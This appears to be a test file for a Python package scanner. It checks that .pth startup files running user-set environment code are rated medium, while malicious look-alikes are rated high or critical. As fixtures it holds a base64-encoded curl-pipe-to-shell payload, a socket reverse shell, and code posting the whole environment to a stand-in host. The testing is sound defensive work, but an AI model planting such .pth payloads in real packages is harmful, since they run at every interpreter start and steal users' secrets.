"""Round 17's false-alarm classes from popular releases, each beside malicious twins.

* manhole's ``.pth`` runs ``exec('if "PYTHONMANHOLE" in os.environ: ... eval("install({0[
  PYTHONMANHOLE]})".format(os.environ))')``: code the machine's owner puts in an environment
  variable runs only when they set it. Code taken from the environment alone is shown at
  medium and no place raises it; a payload travels in the package (a constant, decoded or
  fetched), and a long default beside the variable's name keeps the raise.
* A code string exec'd by a module runs in that module's globals, so its analyser now knows
  the names the module imported: ``import subprocess as sp;exec('sp.Popen(...)')`` in a
  ``.pth`` is a start at every Python start, not an unknown call.
"""

from __future__ import annotations

import base64

from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan, subfolder

MANHOLE_PTH = (
    'import os, sys;exec(\'if "PYTHONMANHOLE" in os.environ:\\n try:\\n'
    "  from pkg import install\\n"
    '  eval("install({0[PYTHONMANHOLE]})".format(os.environ))\\n'
    " except Exception as exc:\\n"
    '  sys.stderr.write("Failed to pkg.install({[PYTHONMANHOLE]}): {!r}\\\\n"'
    ".format(os.environ, exc))\\n')\n"
)
INSTALL = "def install(verbose=True, **options):\n    return options\n"
PAYLOAD = base64.b64encode(b"import os; os.system('curl http://192.0.2.9/x | sh')").decode()


def _pth(tmp_path, name: str, line: str):
    return scan({"pkg/__init__.py": INSTALL, "pkg.pth": line}, subfolder(tmp_path, name))


def test_a_pth_running_what_the_user_put_in_an_environment_variable_is_medium(tmp_path):
    result = _pth(tmp_path, "manhole", MANHOLE_PTH)
    assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]
    rules = {h.rule for h in result.findings}
    assert "py.exec_from_environment" in rules
    plain = _pth(
        tmp_path,
        "plain",
        "import os; exec(os.environ['PKG_HOOK']) if 'PKG_HOOK' in os.environ else None\n",
    )
    assert plain.risk.level not in HIGH


def test_a_pth_running_a_decoded_payload_is_still_critical(tmp_path):
    line = f"import os, base64;exec(base64.b64decode('{PAYLOAD}')) if 'CI' not in os.environ else None\n"
    result = _pth(tmp_path, "decoded", line)
    assert result.risk.level == "critical"
    assert_high_with("decoded .pth", result, {"chain.decode_exec"})


def test_code_given_as_the_default_of_an_environment_variable_keeps_the_raise(tmp_path):
    shell = (
        'import socket,pty;s=socket.socket();s.connect((\\"192.0.2.9\\",4444));pty.spawn(\\"sh\\")'
    )
    line = f"import os;exec(os.environ.get('PKG_HOOK', \"{shell}\"))\n"
    result = _pth(tmp_path, "default", line)
    assert_high_with("env default", result, {"place.install_time"})


def test_a_code_string_knows_the_names_its_module_imported(tmp_path):
    line = 'import subprocess as sp;exec(\'sp.Popen(["sh", "-c", "id"])\')\n'
    result = _pth(tmp_path, "aliased", line)
    assert_high_with("aliased start in a code string", result, {"place.install_time"})
    env = (
        "import os;exec('env = dict(os.environ)\\nimport urllib.request\\n"
        'urllib.request.urlopen("http://192.0.2.9/c", data=str(env).encode())\')\n'
    )
    sent = _pth(tmp_path, "environment", env)
    assert_high_with("environment sent from a code string", sent, {"chain.exfiltration"})
